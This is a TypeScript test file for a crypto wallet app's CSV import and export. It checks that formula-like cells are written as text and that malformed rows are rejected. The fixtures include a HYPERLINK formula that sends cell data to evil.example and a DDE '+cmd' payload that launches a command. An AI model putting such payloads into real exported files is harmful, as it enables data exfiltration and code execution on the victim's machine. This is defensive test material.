import { mkdtempSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { WalletBook, walletBookDocument } from '../../../electron/services/wallets/wallet-book';
import { CSV_MAX_GROUPS_PER_FILE, CSV_MAX_GROUPS_PER_ROW } from '../../../shared/wallets/wallet-csv';
import { neutraliseCell, writeCsv } from '../../../shared/csv/write-csv';

const A = '0xCbA98362e199c41E1864D0923AF9646d3A648451';
const B = '0x70997970C51812dc3A010C7d01b50e0d17dc79C8';
const C = '0x3C44CdDdB6a900fa2b585dd299e03d12FA4293BC';
const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';

async function freshBook() {
  const book = new WalletBook(walletBookDocument(mkdtempSync(path.join(os.tmpdir(), 'vaultdesk-book-'))));
  await book.load();
  return book;
}

const cells = (csv: string) => Papa.parse<string[]>(csv.trim()).data;

describe('CSV exports never carry a formula a spreadsheet would run', () => {
  it('writes every text cell that starts like a formula as text', () => {
    for (const text of [HYPERLINK, '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '  =1+1', '＝1+1'])
      expect(neutraliseCell(text), JSON.stringify(text)).toBe(`'${text}`);
    for (const text of ['Treasury', '250.000001', 'a=b', '0xabc']) expect(neutraliseCell(text)).toBe(text);
    expect(
      cells(
        writeCsv(
          ['label', 'amount', 'n'],
          [
            [HYPERLINK, '-12.5', 3n],
            ['-1', '-1+1', 4],
          ],
          ['amount'],
        ),
      ),
    ).toEqual([
      ['label', 'amount', 'n'],
      [`'${HYPERLINK}`, '-12.5', '3'],
      ["'-1", "'-1+1", '4'],
    ]);
  });

  it('the wallet book export writes a formula label as text, and reads it back as the label it was', async () => {
    const book = await freshBook();
    const g = await book.createGroup('@group');
    await book.add({ address: A, label: HYPERLINK, notes: '+cmd|" /C calc"!A0', groupIds: [g.id] });
    const csv = book.exportCsv();
    const row = cells(csv)[1]!;
    expect(row[1]).toBe(`'${HYPERLINK}`);
    expect(row[2]).toBe(`'+cmd|" /C calc"!A0`);
    expect(row[3]).toBe(`'@group`);
    const other = await freshBook();
    await other.importCsv(csv);
    expect(other.wallets()[0]).toMatchObject({ label: HYPERLINK, notes: '+cmd|" /C calc"!A0' });
  });
});

describe('CSV import', () => {
  it('reports a line with a quote never closed as skipped, instead of folding the next rows into its label', async () => {
    const book = await freshBook();
    const report = await book.importCsv(['address,label', `${A},"Treasury`, `${B},Ops`, `${C},Reserve`].join('\n'));
    expect(report.rows[0]).toMatchObject({ line: 2, outcome: 'skipped', reason: expect.stringContaining('never closed') });
    expect(report.added).toBe(0);
    expect(book.wallets().map((w) => w.label)).not.toContain(expect.stringContaining('Ops'));
  });

  it('reports a line with more values than the header as skipped', async () => {
    const book = await freshBook();
    const report = await book.importCsv(['address,label', `${A},Treasury, EU`, `${B},Ops`].join('\n'));
    expect(report.rows[0]).toMatchObject({ outcome: 'skipped', reason: expect.stringContaining('double quotes') });
    expect(report.rows[1]).toMatchObject({ outcome: 'added' });
  });

  it('drops NUL, escape and other control characters from labels, notes and groups', async () => {
    const book = await freshBook();
    await book.importCsv(
      ['address,label,notes,groups', `${A},"Trea\u0000sury\u001b[31m\u202e","line one\nline\u0007 two",Fund\u0000 I`].join('\n'),
    );
    const [w] = book.wallets();
    expect(w).toMatchObject({ label: 'Treasury[31m', notes: 'line one\nline two' });
    expect(book.snapshot().groups.map((g) => g.name)).toEqual(['Fund I']);
  });

  it(`creates at most ${CSV_MAX_GROUPS_PER_FILE} groups from one file and puts a wallet in at most ${CSV_MAX_GROUPS_PER_ROW}`, async () => {
    const book = await freshBook();
    const many = Array.from({ length: 5000 }, (_, i) => `g${i}`).join(';');
    const perRow = await book.importCsv(['address,groups', `${A},"${many}"`].join('\n'));
    expect(perRow.rows[0]).toMatchObject({ outcome: 'skipped', reason: expect.stringContaining(`at most ${CSV_MAX_GROUPS_PER_ROW}`) });
    expect(book.snapshot().groups).toHaveLength(0);
    const addresses = Array.from({ length: 8 }, (_, i) => `0x${(i + 1).toString(16).padStart(40, '0')}`);
    const lines = addresses.map((a, i) => `${a},"${Array.from({ length: 10 }, (_, j) => `f${i}-${j}`).join(';')}"`);
    const perFile = await book.importCsv(['address,groups', ...lines].join('\n'));
    expect(
      perFile.rows.filter((r) => r.outcome === 'skipped').every((r) => r.reason?.includes(`more than ${CSV_MAX_GROUPS_PER_FILE} groups`)),
    ).toBe(true);
    expect(book.snapshot().groups.length).toBeLessThanOrEqual(CSV_MAX_GROUPS_PER_FILE);
  });
});

describe('the signing report', () => {
  it('writes a formula label, vault name or reason as text', async () => {
    const { reportCsv } = await import('../../../electron/services/signing/csv');
    const item = {
      wallet: A,
      label: HYPERLINK,
      vaultName: '@vault',
      action: 'claim',
      step: 'none',
      review: null,
      message: null,
      tx: null,
      hash: null,
      signed: null,
      signature: null,
      state: 'skipped',
      history: [],
      receipt: null,
      reason: '=1+1',
    };
    const csv = reportCsv({ items: [item], selection: { name: '=SUM(A1:A9)' } } as never);
    const row = Papa.parse<Record<string, string>>(csv.trim(), { header: true }).data[0]!;
    expect(row).toMatchObject({ label: `'${HYPERLINK}`, vault: "'@vault", reason: "'=1+1", batch: "'=SUM(A1:A9)" });
  });
});
